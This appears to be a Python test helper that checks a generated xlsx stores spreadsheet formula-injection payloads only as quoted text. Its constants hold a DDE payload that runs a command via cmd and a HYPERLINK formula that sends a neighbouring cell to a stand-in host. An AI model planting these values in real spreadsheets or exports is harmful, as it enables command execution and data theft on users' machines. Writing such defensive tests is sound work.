"""Spreadsheet formula injection: the hostile values, and the checks that a workbook holds them
only as text (OWASP, "CSV Injection")."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterable
from pathlib import Path

from openpyxl import load_workbook

# One value per trigger character, the classic DDE payload, and a link that carries a
# neighbouring cell away when clicked.
DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://x.example/?x="&A2,"Klik")'
HOSTILE = ("=1+2", "+62 812 000", "-3+4", "@SUM(A1:A9)", DDE, HYPERLINK)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


def formula_elements(path: Path) -> list[str]:
    """The worksheets of the xlsx at ``path`` that hold an ``<f>`` (formula) element."""
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and _FORMULA.search(archive.read(name))
        ]


def assert_only_text(path: Path, expected: Iterable[str]) -> None:
    """Every value of ``expected`` is in the workbook as a string cell, unchanged; every cell
    that begins like a formula is a quote-prefixed string; no worksheet holds a formula."""
    assert formula_elements(path) == []
    book = load_workbook(path)
    found: dict[str, list[tuple[str, bool]]] = {}
    try:
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                    if isinstance(value, str) and value.startswith(TRIGGERS):
                        assert cell.data_type == "s"
                        found.setdefault(value, []).append((cell.coordinate, cell.quotePrefix))
    finally:
        book.close()
    for value in expected:
        assert value in found, f"{value!r} is not in {path.name} as text"
    for value, cells in found.items():
        assert all(prefixed for _, prefixed in cells), f"{value!r} lacks the quote prefix"
